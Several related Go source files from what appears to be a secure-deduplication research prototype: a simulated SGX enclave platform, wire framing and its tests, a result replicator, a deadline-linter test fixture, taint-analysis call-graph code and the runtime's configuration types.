	return fmt.Sprintf("%x", m[:8])
}

// Platform is a simulated SGX-capable machine. It owns the EPC and the
// platform key hierarchy from which sealing and attestation keys are
// derived. The zero value is not usable; construct with NewPlatform.
type Platform struct {
	cfg Config

	mu       sync.Mutex
	epcUsed  int64
	enclaves map[string]*Enclave
	nextID   uint64

	platformKey [32]byte
	attestPriv  *ecdsa.PrivateKey
	attestPub   []byte
}

// NewPlatform creates a platform with the given configuration. Zero
// fields take the defaults documented on Config.
func NewPlatform(cfg Config) *Platform {
	p := &Platform{
		cfg:      cfg.withDefaults(),
		enclaves: make(map[string]*Enclave),
	}
	if len(p.cfg.PlatformSeed) > 0 {
		mac := hmac.New(sha256.New, []byte("speed/platform-key/v1"))
		mac.Write(p.cfg.PlatformSeed)
		copy(p.platformKey[:], mac.Sum(nil))
	} else if _, err := rand.Read(p.platformKey[:]); err != nil {
		// The crypto/rand contract effectively never fails on the
		// supported platforms; startup is the one place a panic is
		// acceptable per the style guide.
		panic(fmt.Sprintf("enclave: platform key generation: %v", err))
	}
	p.initAttestationKey()
	return p
}

// Config returns the platform's effective configuration.
func (p *Platform) Config() Config { return p.cfg }

// EPCUsed reports the current total EPC consumption across all enclaves.
func (p *Platform) EPCUsed() int64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.epcUsed
}

// Create instantiates an enclave whose measurement is the SHA-256 of
// code. The name is only used for diagnostics and must be unique on the
// platform.
func (p *Platform) Create(name string, code []byte) (*Enclave, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if _, ok := p.enclaves[name]; ok {
		return nil, fmt.Errorf("enclave: enclave %q already exists", name)
	}
	e := &Enclave{
		platform:    p,
		name:        name,
		measurement: sha256.Sum256(code),
	}
	e.sealKey = p.deriveKey("seal", e.measurement)
	p.enclaves[name] = e
	return e, nil
}

// deriveKey derives a per-purpose, per-measurement key from the platform
// key, mimicking SGX's EGETKEY key hierarchy.
func (p *Platform) deriveKey(purpose string, m Measurement) [32]byte {
	mac := hmac.New(sha256.New, p.platformKey[:])
	mac.Write([]byte(purpose))
	mac.Write(m[:])
	var out [32]byte
	copy(out[:], mac.Sum(nil))
	return out
}

// reserve charges n bytes of EPC, returning the number of pages that fell
// beyond the usable budget (and therefore incur paging penalties).
func (p *Platform) reserve(n int64) (overPages int64, err error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.epcUsed+n > p.cfg.EPCBytes {
		return 0, fmt.Errorf("%w: used %d + requested %d > %d",
			ErrOutOfMemory, p.epcUsed, n, p.cfg.EPCBytes)
	}
	before := p.epcUsed
	p.epcUsed += n
	if p.epcUsed > p.cfg.EPCUsableBytes {
		overStart := max64(before, p.cfg.EPCUsableBytes)
		overPages = (p.epcUsed - overStart + pageSize - 1) / pageSize
	}
	return overPages, nil
}

func (p *Platform) release(n int64) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.epcUsed -= n
	if p.epcUsed < 0 {
		p.epcUsed = 0
	}
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// Enclave is a simulated enclave instance. All methods are safe for
// concurrent use.
type Enclave struct {
	platform    *Platform
	name        string
	measurement Measurement
	sealKey     [32]byte

	mu        sync.Mutex
	heapUsed  int64
	destroyed bool

	metrics Metrics
}

// Name returns the diagnostic name given at creation.
func (e *Enclave) Name() string { return e.name }

// Measurement returns the enclave's code measurement.
func (e *Enclave) Measurement() Measurement { return e.measurement }

// HeapUsed reports the enclave's current protected-heap consumption.
func (e *Enclave) HeapUsed() int64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.heapUsed
}

// Destroy tears the enclave down and releases its EPC.
func (e *Enclave) Destroy() {
	e.mu.Lock()
	used := e.heapUsed
	e.heapUsed = 0
	wasDestroyed := e.destroyed
	e.destroyed = true
	e.mu.Unlock()
	if wasDestroyed {
		return
	}
	e.platform.release(used)
	e.platform.mu.Lock()
	delete(e.platform.enclaves, e.name)
	e.platform.mu.Unlock()
}

// Alloc charges n bytes against the enclave heap (and the platform EPC),
// simulating paging costs for pages beyond the usable budget.
func (e *Enclave) Alloc(n int64) error {
	if n < 0 {
		return fmt.Errorf("enclave: negative allocation %d", n)
	}
	e.mu.Lock()
	if e.destroyed {
		e.mu.Unlock()
		return ErrDestroyed
	}
	e.mu.Unlock()
	overPages, err := e.platform.reserve(n)
	if err != nil {
		return err
	}
	e.mu.Lock()
	e.heapUsed += n
	e.metrics.AllocBytes += n
	e.metrics.PageFaults += overPages
	e.mu.Unlock()
	if overPages > 0 {
		e.spend(time.Duration(overPages) * e.platform.cfg.PagingCost)
	}
	return nil
}

// Free returns n bytes to the platform EPC.
func (e *Enclave) Free(n int64) {
	if n < 0 {
		return
	}
	e.mu.Lock()
	if n > e.heapUsed {
		n = e.heapUsed
	}
	e.heapUsed -= n
	e.mu.Unlock()
	e.platform.release(n)
}

// ECall runs fn "inside" the enclave, charging one boundary crossing on
// entry and one on exit, exactly like an SGX ECALL.
func (e *Enclave) ECall(fn func() error) error {
	e.mu.Lock()
	if e.destroyed {
		e.mu.Unlock()
		return ErrDestroyed
	}
	e.metrics.ECalls++
	e.mu.Unlock()
	e.spend(e.platform.cfg.TransitionCost)
	err := fn()
	e.spend(e.platform.cfg.TransitionCost)
	return err
}

// OCall runs fn "outside" the enclave on behalf of in-enclave code,
// charging the same two boundary crossings as an SGX OCALL.
func (e *Enclave) OCall(fn func() error) error {
	e.mu.Lock()
	if e.destroyed {
		e.mu.Unlock()
		return ErrDestroyed
	}
	e.metrics.OCalls++
	e.mu.Unlock()
	e.spend(e.platform.cfg.TransitionCost)
	err := fn()
	e.spend(e.platform.cfg.TransitionCost)
	return err
}

// spend burns the given duration with a spin wait. Sleeping is far too
// coarse at microsecond scale for benchmark fidelity.
func (e *Enclave) spend(d time.Duration) {
	if !e.platform.cfg.SimulateCosts || d <= 0 {
		return
	}
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
	}
}

// Metrics is a snapshot of an enclave's activity counters.
type Metrics struct {
	ECalls     int64
	OCalls     int64
	AllocBytes int64
	PageFaults int64
}

// Metrics returns a snapshot of the enclave's counters.
func (e *Enclave) Metrics() Metrics {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.metrics
}
