package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// MaxFrameSize bounds a single frame to protect against resource
// exhaustion by a malicious peer. Results larger than this must be
// chunked by the application (none of the paper's workloads come close).
const MaxFrameSize = 64 << 20

// frameHeaderLen is the length-prefix overhead of every frame.
const frameHeaderLen = 4

// ErrFrameTooLarge is returned when a peer announces a frame beyond
// MaxFrameSize.
var ErrFrameTooLarge = errors.New("wire: frame exceeds maximum size")

// WriteFrame writes a length-prefixed frame.
func WriteFrame(w io.Writer, payload []byte) error {
	if len(payload) > MaxFrameSize {
		return ErrFrameTooLarge
	}
	var hdr [4]byte
	binary.BigEndian.PutUint32(hdr[:], uint32(len(payload)))
	if _, err := w.Write(hdr[:]); err != nil {
		return fmt.Errorf("write frame header: %w", err)
	}
	if _, err := w.Write(payload); err != nil {
		return fmt.Errorf("write frame payload: %w", err)
	}
	return nil
}

// ReadFrame reads one length-prefixed frame.
func ReadFrame(r io.Reader) ([]byte, error) {
	var hdr [4]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(hdr[:])
	if n > MaxFrameSize {
		return nil, ErrFrameTooLarge
	}
	payload := make([]byte, n)
	if _, err := io.ReadFull(r, payload); err != nil {
		return nil, fmt.Errorf("read frame payload: %w", err)
	}
	return payload, nil
}
