package wire

import (
	"reflect"
	"testing"

	"speed/internal/mle"
)

func TestSyncMessageRoundTrips(t *testing.T) {
	sealed := mle.Sealed{
		Challenge:  []byte("rrrrrrrrrrrrrrrr"),
		WrappedKey: []byte("kkkkkkkkkkkkkkkk"),
		Blob:       []byte("ciphertext blob bytes"),
	}
	msgs := []Message{
		SyncPullRequest{},
		SyncPullRequest{MinHits: 7, Max: 512},
		SyncPullRequest{MinHits: -3},
		SyncPullResponse{},
		SyncPullResponse{Entries: []SyncEntry{
			{Tag: mustTag(0x11), Hits: 42, Sealed: sealed},
			{Tag: mustTag(0x22), Hits: 1, Sealed: mle.Sealed{}},
		}},
	}
	for _, m := range msgs {
		got, err := Unmarshal(Marshal(m))
		if err != nil {
			t.Errorf("%v: Unmarshal: %v", m.Kind(), err)
			continue
		}
		if !reflect.DeepEqual(got, m) && !syncEquivalent(got, m) {
			t.Errorf("%v: round trip = %#v, want %#v", m.Kind(), got, m)
		}
	}
}

// syncEquivalent treats nil and empty entry slices (and nil/empty
// sealed fields) as equal.
func syncEquivalent(a, b Message) bool {
	am, ok := a.(SyncPullResponse)
	if !ok {
		return false
	}
	bm, ok := b.(SyncPullResponse)
	if !ok || len(am.Entries) != len(bm.Entries) {
		return false
	}
	for i := range am.Entries {
		x, y := am.Entries[i], bm.Entries[i]
		if x.Tag != y.Tag || x.Hits != y.Hits {
			return false
		}
		if string(x.Sealed.Challenge) != string(y.Sealed.Challenge) ||
			string(x.Sealed.WrappedKey) != string(y.Sealed.WrappedKey) ||
			string(x.Sealed.Blob) != string(y.Sealed.Blob) {
			return false
		}
	}
	return true
}

func TestSyncMessageMalformed(t *testing.T) {
	cases := map[string][]byte{
		"request truncated":  Marshal(SyncPullRequest{MinHits: 1})[:8],
		"request trailing":   append(Marshal(SyncPullRequest{}), 0),
		"response truncated": Marshal(SyncPullResponse{Entries: []SyncEntry{{Tag: mustTag(0x01), Hits: 2}}})[:20],
		"response trailing":  append(Marshal(SyncPullResponse{}), 0xFF),
	}
	for name, raw := range cases {
		if _, err := Unmarshal(raw); err == nil {
			t.Errorf("%s: Unmarshal accepted malformed payload", name)
		}
	}
}
