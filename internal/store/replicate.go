package store

import (
	"fmt"
	"sync"
	"time"
)

// Replicator implements the deployment remark of Section IV-B: "We can
// also deploy a master ResultStore on a dedicated server, which
// periodically synchronizes the popular (i.e., frequently appeared)
// results from different machines." Because tags are deterministic,
// synchronization never creates redundancy at the master: the first
// ciphertext version stored for a tag is kept, and it remains
// decryptable by any application that performs the same computation.
//
// Deprecated: Replicator synchronizes between *Store instances living
// in the same process, which only models the multi-machine deployment.
// New code should use cluster.Syncer (internal/cluster), which performs
// the same popular-result synchronization over the attested wire
// protocol (SYNC_PULL) against real resultstore servers and places the
// results on their consistent-hash ring owners. Replicator is kept for
// single-process embeddings and existing benchmarks.
type Replicator struct {
	master   *Store
	replicas []*Store
	minHits  int64
	interval time.Duration

	stop chan struct{}
	done chan struct{}
	once sync.Once

	mu      sync.Mutex
	started bool
	synced  int64
}

// NewReplicator creates a replicator that copies entries with at least
// minHits hits from each replica into master.
func NewReplicator(master *Store, replicas []*Store, minHits int64, interval time.Duration) *Replicator {
	return &Replicator{
		master:   master,
		replicas: replicas,
		minHits:  minHits,
		interval: interval,
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
}

// SyncOnce performs one synchronization pass and returns the number of
// entries installed at the master.
func (r *Replicator) SyncOnce() (int, error) {
	installed := 0
	for i, rep := range r.replicas {
		entries, err := rep.Export(r.minHits)
		if err != nil {
			return installed, fmt.Errorf("export replica %d: %w", i, err)
		}
		for _, e := range entries {
			ok, err := r.master.Put(e.Owner, e.Tag, e.Sealed)
			if err != nil || !ok {
				// Duplicates (another replica already synced the same
				// tag) and quota rejections are expected; skip them.
				continue
			}
			installed++
		}
	}
	r.mu.Lock()
	r.synced += int64(installed)
	r.mu.Unlock()
	return installed, nil
}

// Synced reports the cumulative number of entries installed at the
// master across all passes.
func (r *Replicator) Synced() int64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.synced
}

// Start launches periodic synchronization. Stop shuts it down.
// Calling Start more than once is a no-op.
func (r *Replicator) Start() {
	r.mu.Lock()
	if r.started {
		r.mu.Unlock()
		return
	}
	r.started = true
	r.mu.Unlock()
	go func() {
		defer close(r.done)
		ticker := time.NewTicker(r.interval)
		defer ticker.Stop()
		for {
			select {
			case <-ticker.C:
				_, _ = r.SyncOnce()
			case <-r.stop:
				return
			}
		}
	}()
}

// Stop terminates periodic synchronization and, if Start was called,
// waits for the worker to exit. Safe to call multiple times.
func (r *Replicator) Stop() {
	r.once.Do(func() {
		close(r.stop)
	})
	r.mu.Lock()
	started := r.started
	r.mu.Unlock()
	if started {
		<-r.done
	}
}
