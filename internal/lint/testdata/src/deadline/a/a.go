// Package a exercises the deadline analyzer: unguarded conn I/O,
// accept loops, retry loops and bare net.Dial.
package a

import (
	"net"
	"time"
)

type Conn struct{}

func (Conn) Read(b []byte) (int, error)    { return 0, nil }
func (Conn) Write(b []byte) (int, error)   { return 0, nil }
func (Conn) SetDeadline(t time.Time) error { return nil }

type Listener struct{}

func (Listener) Accept() (Conn, error) { return Conn{}, nil }

func badRead(c Conn) {
	var b [8]byte
	c.Read(b[:]) // want `c.Read has no preceding SetDeadline`
}

func goodRead(c Conn) {
	c.SetDeadline(time.Now().Add(time.Second))
	var b [8]byte
	c.Read(b[:])
}

// timerBounded uses the mux's kill-on-timeout pattern instead of a
// socket deadline: accepted.
func timerBounded(c Conn) {
	t := time.NewTimer(time.Second)
	defer t.Stop()
	var b [8]byte
	c.Read(b[:])
}

func badAcceptLoop(l Listener) {
	for {
		l.Accept() // want `accept loop has no backoff`
	}
}

func goodAcceptLoop(l Listener) {
	for {
		if _, err := l.Accept(); err != nil {
			time.Sleep(time.Millisecond)
		}
	}
}

// acceptOnce delegates a single Accept: a wrapper, not a loop.
func acceptOnce(l Listener) (Conn, error) {
	return l.Accept()
}

func dialRetry(c Conn) {
	for i := 0; i < 3; i++ { // want `retry loop in dialRetry does not consult a bounded backoff`
		_ = i
	}
}

func connectWithBackoff() {
	backoff := time.Millisecond
	for i := 0; i < 3; i++ {
		time.Sleep(backoff)
		backoff *= 2
	}
}

func badDial() {
	net.Dial("tcp", "localhost:1") // want `net\.Dial has no connect timeout`
}

func goodDial() {
	net.DialTimeout("tcp", "localhost:1", time.Second)
}

// loggedConn embeds a conn-like type: a wrapper whose caller owns the
// deadline, so its delegating methods are exempt.
type loggedConn struct {
	Conn
}

func (l loggedConn) Read(b []byte) (int, error) {
	return l.Conn.Read(b)
}
