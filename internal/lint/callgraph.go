package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// This file builds the one-level call-graph summary layer: for every
// function declared in the package under analysis, a funcSummary of
// the facts the dataflow analyzers need about its callees — "returns
// tainted data", "propagates argument taint to its results", "sinks a
// tainted argument to the network/disk/log", "fsyncs a file",
// "fsyncs the directory", "renames (commits)", "never returns".
//
// Summaries are computed callee-first (DFS postorder over the
// package-local call graph, cycles broken arbitrarily), so by the time
// a caller is summarised its callees' summaries are available — one
// level of interprocedural precision without a whole-program fixpoint.
// Cross-package calls resolve only to the hardcoded source/sanitizer/
// sink tables (dataflow.go); everything else is treated as opaque and
// taint-free, which keeps the analyzers conservative-quiet rather than
// conservative-noisy.

// taintMask classifies what a value carries.
type taintMask uint8

const (
	// taintKey marks key material: derived keys, secrets, passphrases.
	taintKey taintMask = 1 << iota
	// taintPlain marks enclave plaintext: unsealed record contents,
	// dictionary fields (challenge, wrapped key) outside a seal.
	taintPlain
	// taintParam is the synthetic mark used while summarising: it
	// tracks whether a function's parameters reach its results or a
	// sink, without claiming the parameters are actually tainted.
	taintParam
)

func (m taintMask) describe() string {
	switch {
	case m&taintKey != 0:
		return "key material"
	case m&taintPlain != 0:
		return "enclave plaintext"
	}
	return "tainted data"
}

// funcSummary is the one-level abstract of a function body.
type funcSummary struct {
	// resultTaint[i] is the taint result i carries regardless of the
	// arguments (the function is a source).
	resultTaint []taintMask
	// propagates reports that argument taint flows to the results
	// (identity-ish transforms: encoders, copiers, formatters).
	propagates bool
	// sinkDesc, when non-empty, reports that an argument reaches a
	// sink inside the function; sinkAccepts is the taint class the
	// sink objects to.
	sinkDesc    string
	sinkAccepts taintMask
	// seals reports the function passes its arguments through a
	// sealing primitive before anything leaves (its results are
	// ciphertext). Such calls act as sanitizers at call sites.
	seals bool

	// writesFile: the body writes file content (os.File/bufio writes,
	// os.WriteFile) on some path.
	writesFile bool
	// syncs: the body fsyncs a file (f.Sync or a callee that does).
	syncs bool
	// syncsDir: the body fsyncs a directory (a syncDir-shaped helper
	// or a callee that does).
	syncsDir bool
	// renames: the body calls os.Rename (a commit point) directly or
	// through a callee.
	renames bool

	// neverReturns: the exit block is unreachable — the function can
	// only leave by blocking forever or panicking.
	neverReturns bool
	// cfg is retained for the analyzers' own passes.
	cfg *funcCFG
}

// funcNode is one declared function plus its summary.
type funcNode struct {
	decl    *ast.FuncDecl
	obj     *types.Func
	summary funcSummary
}

// callGraph indexes the package's declared functions and their
// summaries.
type callGraph struct {
	pkg *Package
	// byObj maps the type-checker's object to the node; byName is the
	// fallback for fixture code with incomplete type info, keyed on
	// the bare declaration name (ambiguous names resolve to nil).
	byObj  map[*types.Func]*funcNode
	byName map[string]*funcNode
	// order is callee-first.
	order []*funcNode
}

// buildCallGraph collects the package's function declarations and
// computes their summaries callee-first. The summarise callback runs
// the taint engine for the taint-related fields; the structural fields
// (fsync/rename/never-returns) are computed here.
func buildCallGraph(pkg *Package) *callGraph {
	g := &callGraph{
		pkg:    pkg,
		byObj:  make(map[*types.Func]*funcNode),
		byName: make(map[string]*funcNode),
	}
	var nodes []*funcNode
	forEachFunc(pkg, func(_ *ast.File, fd *ast.FuncDecl) {
		n := &funcNode{decl: fd}
		if obj, ok := pkg.Info.Defs[fd.Name].(*types.Func); ok {
			n.obj = obj
			g.byObj[obj] = n
		}
		if prev, clash := g.byName[fd.Name.Name]; clash && prev != nil {
			g.byName[fd.Name.Name] = nil // ambiguous: methods sharing a name
		} else if !clash {
			g.byName[fd.Name.Name] = n
		}
		nodes = append(nodes, n)
	})

	// Callee-first ordering by DFS postorder over package-local edges.
	visited := make(map[*funcNode]bool)
	var visit func(n *funcNode)
	visit = func(n *funcNode) {
		if visited[n] {
			return
		}
		visited[n] = true
		ast.Inspect(n.decl.Body, func(x ast.Node) bool {
			call, ok := x.(*ast.CallExpr)
			if !ok {
				return true
			}
			if callee := g.resolve(call); callee != nil && callee != n {
				visit(callee)
			}
			return true
		})
		g.order = append(g.order, n)
	}
	for _, n := range nodes {
		visit(n)
	}

	for _, n := range g.order {
		g.summariseStructure(n)
	}
	return g
}

// resolve maps a call expression to the package-local function it
// invokes, or nil. Resolution goes through type info when available
// and falls back to unique bare names (fixtures type-check with holes).
func (g *callGraph) resolve(call *ast.CallExpr) *funcNode {
	switch fn := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		if obj, ok := g.pkg.Info.Uses[fn].(*types.Func); ok {
			// Type info resolved the callee: trust it. A non-local
			// object must not fall back to a same-named local function.
			return g.byObj[obj]
		}
		return g.byName[fn.Name]
	case *ast.SelectorExpr:
		if obj, ok := g.pkg.Info.Uses[fn.Sel].(*types.Func); ok {
			return g.byObj[obj]
		}
		// A selector only falls back by name when the qualifier is not
		// a package (a method on a local value whose type didn't
		// resolve — fixture packages type-check with holes).
		if pkgPathOf(g.pkg, fn.X) == "" {
			return g.byName[fn.Sel.Name]
		}
	}
	return nil
}

// summariseStructure fills the CFG-derived summary fields: file
// writes, fsyncs, directory fsyncs, renames and never-returns. Taint
// fields are filled separately by summariseTaint (dataflow.go), which
// needs the full engine.
func (g *callGraph) summariseStructure(n *funcNode) {
	n.summary.cfg = buildCFG(n.decl.Body)
	reach := n.summary.cfg.reachableFrom(n.summary.cfg.entry)
	n.summary.neverReturns = !reach.has(n.summary.cfg.exit.index)

	isDirSyncName := dirSyncShaped(n.decl.Name.Name)
	ast.Inspect(n.decl.Body, func(x ast.Node) bool {
		if _, ok := x.(*ast.FuncLit); ok {
			return false // closures are separate analysis units
		}
		call, ok := x.(*ast.CallExpr)
		if !ok {
			return true
		}
		switch {
		case isFileWriteCall(g.pkg, call):
			n.summary.writesFile = true
		case isFileSyncCall(g.pkg, call):
			if isDirSyncName {
				n.summary.syncsDir = true
			} else {
				n.summary.syncs = true
			}
		case isRenameCall(g.pkg, call):
			n.summary.renames = true
		}
		if callee := g.resolve(call); callee != nil {
			cs := callee.summary
			n.summary.writesFile = n.summary.writesFile || cs.writesFile
			n.summary.syncs = n.summary.syncs || cs.syncs
			n.summary.syncsDir = n.summary.syncsDir || cs.syncsDir
			n.summary.renames = n.summary.renames || cs.renames
		}
		return true
	})
}

// dirSyncShaped reports whether a function name announces a directory
// fsync helper (syncDir, fsyncDir, dirSync...).
func dirSyncShaped(name string) bool {
	l := strings.ToLower(name)
	return strings.Contains(l, "syncdir") || strings.Contains(l, "dirsync") ||
		strings.Contains(l, "fsyncdir")
}

// fileWriterTypeNames are receiver type names whose Write-family
// methods move bytes toward a file descriptor. bytes.Buffer and
// strings.Builder are deliberately absent: they are memory.
var fileWriterTypeNames = map[string]bool{
	"File": true, "Writer": true, // os.File, bufio.Writer
}

// isFileWriterRecv reports whether e is a file-backed writer (os.File
// or bufio.Writer, by package-qualified type name).
func isFileWriterRecv(pkg *Package, e ast.Expr) bool {
	n := namedTypeOf(pkg, e)
	if n == nil || n.Obj() == nil {
		return false
	}
	p := n.Obj().Pkg()
	if p == nil {
		return false
	}
	switch {
	case p.Name() == "os" && n.Obj().Name() == "File":
		return true
	case p.Name() == "bufio" && n.Obj().Name() == "Writer":
		return true
	}
	return false
}

// isFileWriteCall recognises base file-write events: Write-family
// methods on *os.File / *bufio.Writer, and os.WriteFile.
func isFileWriteCall(pkg *Package, call *ast.CallExpr) bool {
	if isPkgFunc(pkg, call, "os", "WriteFile") {
		return true
	}
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return false
	}
	switch sel.Sel.Name {
	case "Write", "WriteString", "WriteAt", "WriteByte":
	default:
		return false
	}
	return isFileWriterRecv(pkg, sel.X)
}

// isFileSyncCall recognises base fsync events: Sync on an *os.File.
func isFileSyncCall(pkg *Package, call *ast.CallExpr) bool {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Sync" {
		return false
	}
	if isFileWriterRecv(pkg, sel.X) {
		return true
	}
	// Fixture fallback: a Sync() method call with no resolvable type
	// still counts — fixture packages type-check with holes.
	return namedTypeOf(pkg, sel.X) == nil
}

// isRenameCall recognises os.Rename.
func isRenameCall(pkg *Package, call *ast.CallExpr) bool {
	return isPkgFunc(pkg, call, "os", "Rename")
}
