package dedup

import (
	"errors"
	"fmt"
	"log"
	goruntime "runtime"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/chunk"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// Outcome describes how a marked computation was satisfied.
type Outcome int

// Outcomes of Execute.
const (
	// OutcomeComputed means the result was freshly computed (and
	// uploaded): Algorithm 1, the paper's "Init. Comp.".
	OutcomeComputed Outcome = iota + 1
	// OutcomeReused means a stored result was verified, decrypted and
	// reused: Algorithm 2, the paper's "Subsq. Comp.".
	OutcomeReused
	// OutcomeRecomputed means a stored entry existed but failed the
	// Fig. 3 verification (⊥) — e.g. poisoned or corrupted — so the
	// result was recomputed and re-uploaded.
	OutcomeRecomputed
	// OutcomeCoalesced means an identical computation was already in
	// flight in this process and its result was shared, without
	// touching the store at all.
	OutcomeCoalesced
)

// String implements fmt.Stringer.
func (o Outcome) String() string {
	switch o {
	case OutcomeComputed:
		return "computed"
	case OutcomeReused:
		return "reused"
	case OutcomeRecomputed:
		return "recomputed"
	case OutcomeCoalesced:
		return "coalesced"
	default:
		return fmt.Sprintf("Outcome(%d)", int(o))
	}
}

// Config configures a Runtime.
type Config struct {
	// Enclave is the application enclave the runtime is linked into.
	// Required.
	Enclave *enclave.Enclave
	// Client reaches the encrypted ResultStore. Required.
	Client StoreClient
	// Scheme is the result-encryption scheme; nil means the paper's
	// cross-application RCE design.
	Scheme mle.Scheme
	// Registry records the application's trusted libraries; nil means
	// a fresh empty registry.
	Registry *Registry
	// AsyncPut processes the PUT pipeline (key generation, result
	// encryption, store update) in a separate worker, the optimization
	// suggested in Section V-B. When false (the default, matching the
	// measured "Init. Comp." which includes "the time for secure
	// storing result"), the PUT happens on the caller's path.
	AsyncPut bool
	// PutQueueDepth bounds the async PUT queue; defaults to 64.
	PutQueueDepth int
	// NoCoalesce disables in-flight coalescing. By default, when
	// multiple goroutines concurrently Execute the same computation
	// (same FuncID and input), only the first runs it; the others wait
	// and share its result with OutcomeCoalesced — deduplication
	// within the process, before the store is even consulted.
	NoCoalesce bool
	// BatchParallelism bounds how many missing results one ExecuteBatch
	// call computes concurrently. Zero selects GOMAXPROCS; 1 computes
	// serially.
	BatchParallelism int
	// ChunkThreshold enables content-defined chunked deduplication:
	// results of at least this many bytes are split with a FastCDC
	// chunker, each chunk independently RCE-encrypted and stored under
	// its own content-derived tag, and the call's primary tag holds a
	// small sealed manifest instead of the whole result (see
	// internal/chunk and DESIGN.md "Chunked dedup"). Results below the
	// threshold take the whole-result path unchanged. Zero (the
	// default) disables chunking entirely.
	ChunkThreshold int
	// ChunkCacheBytes bounds the runtime's in-enclave cache of chunk
	// plaintexts, which turns overlapping results into partial
	// transfers: a manifest hit fetches only the chunks the cache
	// misses, and a chunked upload skips chunks known store-resident.
	// Defaults to 16 MiB when chunking is enabled; ignored otherwise.
	ChunkCacheBytes int64
	// DegradeThreshold is the number of consecutive store transport
	// failures after which the runtime opens its circuit breaker: it
	// stops consulting the store entirely (compute-only mode) and
	// probes it in the background until it recovers. Regardless of the
	// threshold, an individual failed GET degrades only its own call —
	// the caller gets a freshly computed result instead of an error.
	// Zero selects the default (5); negative disables degradation, so
	// store failures surface as Execute errors as before.
	DegradeThreshold int
	// ProbeInterval is how often a degraded runtime probes the store in
	// the background to detect recovery; defaults to 500ms.
	ProbeInterval time.Duration
	// Telemetry, when non-nil, registers the runtime's metrics —
	// outcome counters, the end-to-end Execute latency histogram per
	// outcome, and per-phase latency histograms (tag derivation, store
	// GET, verify/decrypt, compute, encrypt, store PUT, coalesce wait)
	// — labelled app=<enclave name>, and samples call traces into the
	// registry's trace ring. Nil disables instrumentation entirely.
	Telemetry *telemetry.Registry
	// TraceSampleRate traces one Execute call in every N into the
	// telemetry registry's trace ring. Zero selects the default (64);
	// negative disables tracing while keeping the metrics. A sampled
	// call's trace context additionally propagates over the wire to
	// every store node it touches (when the client and channel support
	// it), so the per-node span rings assemble into one distributed
	// trace.
	TraceSampleRate int
	// SlowRequestThreshold, when positive, logs one structured line via
	// Logf for any Execute/ExecuteBatch call slower than the threshold,
	// rate-limited to one line per second so a latency storm cannot
	// flood the log. The line carries the trace ID when the call was
	// sampled, linking the log to /debug/trace?id=. Zero disables.
	SlowRequestThreshold time.Duration
	// Logf is the diagnostic logger; defaults to log.Printf.
	Logf func(format string, args ...any)
}

// Stats is a snapshot of runtime activity.
type Stats struct {
	// Calls counts Execute invocations.
	Calls int64
	// Reused counts results served from the store.
	Reused int64
	// Computed counts fresh computations (including recomputations).
	Computed int64
	// Coalesced counts calls that shared an in-flight computation.
	Coalesced int64
	// VerifyFailures counts stored entries rejected by the Fig. 3
	// verification protocol.
	VerifyFailures int64
	// PutErrors counts failed or rejected uploads.
	PutErrors int64
	// BytesReused totals the plaintext result bytes served from the
	// store.
	BytesReused int64
	// Degraded counts calls served compute-only because the store was
	// unreachable or the circuit breaker was open.
	Degraded int64
	// StoreFailures counts store transport failures observed by the
	// runtime (GET/PUT errors other than explicit rejections).
	StoreFailures int64
	// Retries counts request retries performed by the store client
	// (populated when the client exposes a retry counter, e.g.
	// RemoteClient).
	Retries int64
	// ChunkedPuts counts results uploaded chunk-wise (manifest plus
	// content chunks) rather than as one sealed blob.
	ChunkedPuts int64
	// ManifestReuses counts hits served by reassembling a chunk
	// manifest (a subset of Reused).
	ManifestReuses int64
	// ChunksFetched counts sealed chunks fetched from the store during
	// manifest reassembly.
	ChunksFetched int64
	// ChunkCacheHits counts manifest chunks served from the local chunk
	// cache without touching the store.
	ChunkCacheHits int64
	// ChunksSkipped counts chunk uploads skipped because the chunk was
	// already store-resident (local-cache knowledge or HAS_BATCH probe).
	ChunksSkipped int64
}

// retryCounter is implemented by store clients that retry transient
// failures internally (RemoteClient); the runtime surfaces the count
// through Stats.Retries.
type retryCounter interface {
	Retries() int64
}

// Runtime is the secure deduplication runtime. It is safe for
// concurrent use by multiple goroutines of the same application.
type Runtime struct {
	cfg Config

	mu    sync.Mutex
	stats Stats

	flightMu sync.Mutex
	inflight map[mle.Tag]*flight

	// Circuit breaker over the store path (Section III-D rate limiting
	// and the networked deployment of Section IV-B assume the store can
	// fail): after DegradeThreshold consecutive transport failures the
	// breaker opens and Execute serves compute-only until a background
	// probe sees the store healthy again.
	breakerMu   sync.Mutex
	consecFails int
	brkOpen     bool
	probing     bool
	probeWG     sync.WaitGroup

	putCh  chan putJob
	stop   chan struct{}
	done   chan struct{}
	closed bool

	// tel is nil when Config.Telemetry was nil; every instrumentation
	// site is guarded on it, so the uninstrumented path costs one
	// pointer test.
	tel    *rtMetrics
	traceN atomic.Uint64

	// traced is Config.Client's TracedClient view, or nil when the
	// client cannot carry a trace context; resolved once here so the
	// per-call path pays no type assertion.
	traced TracedClient

	// slowLogLast is the UnixNano of the last slow-request line, the
	// rate limiter for Config.SlowRequestThreshold.
	slowLogLast atomic.Int64

	// chunker and chunkCache are non-nil iff Config.ChunkThreshold > 0;
	// every chunked-dedup site is guarded on chunker, so a runtime
	// without chunking pays one nil test.
	chunker    *chunk.Chunker
	chunkCache *chunkLRU
	// hasUnsupported latches after the client reports
	// ErrHasBatchUnsupported once, so an old store is probed at most
	// one time per runtime.
	hasUnsupported atomic.Bool
}

